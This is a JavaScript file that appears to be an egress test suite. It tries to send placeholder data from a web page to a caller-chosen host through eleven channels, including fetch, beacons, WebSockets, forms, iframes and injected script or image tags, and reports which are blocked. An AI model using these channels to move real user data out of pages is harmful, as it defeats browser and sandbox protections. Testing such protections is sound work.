// Ways to send data out of a page. Each answers "sent", "blocked" or, where a page cannot tell, "tried"; the ear knows.
({
  fetch: (ear) => fetch(`http://${ear}/fetch?data=1`).then(() => "sent", () => "blocked"),
  beacon: (ear) => { navigator.sendBeacon(`http://${ear}/beacon`, "data"); return "tried"; },
  request: (ear) => new Promise((done) => {
    const request = new XMLHttpRequest();
    request.onload = () => done("sent");
    request.onerror = () => done("blocked");
    request.open("POST", `http://${ear}/request`);
    request.send("data");
  }),
  image: (ear) => new Promise((done) => {
    const image = new Image();
    image.onload = () => done("sent");
    image.onerror = () => done("blocked");
    image.src = `http://${ear}/image?data=1`;
  }),
  socket: (ear) => new Promise((done) => {
    try {
      const socket = new WebSocket(`ws://${ear}/socket`);
      socket.onopen = () => done("sent");
      socket.onerror = () => done("blocked");
    } catch { done("blocked"); }
  }),
  events: (ear) => new Promise((done) => {
    const events = new EventSource(`http://${ear}/events`);
    events.onerror = () => { events.close(); done("blocked"); };
  }),
  form: (ear) => {
    const form = document.createElement("form");
    form.action = `http://${ear}/form`;
    form.method = "post";
    document.body.append(form);
    form.submit();
    return "tried";
  },
  frame: (ear) => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.src = `http://${ear}/frame?data=1`;
    document.body.append(frame);
    setTimeout(() => done("tried"), 300);
  }),
  style: (ear) => new Promise((done) => {
    const link = document.createElement("link");
    link.rel = "stylesheet";
    link.href = `http://${ear}/style?data=1`;
    link.onload = () => done("sent");
    link.onerror = () => done("blocked");
    document.head.append(link);
  }),
  script: (ear) => new Promise((done) => {
    try {
      const script = document.createElement("script");
      script.onload = () => done("sent");
      script.onerror = () => done("blocked");
      script.src = `http://${ear}/script?data=1`;
      document.head.append(script);
    } catch { done("blocked"); }
  }),
  markup: (ear) => {
    try {
      document.body.insertAdjacentHTML("beforeend", `<img src="http://${ear}/markup?data=1">`);
      return "tried";
    } catch { return "blocked"; }
  },
})
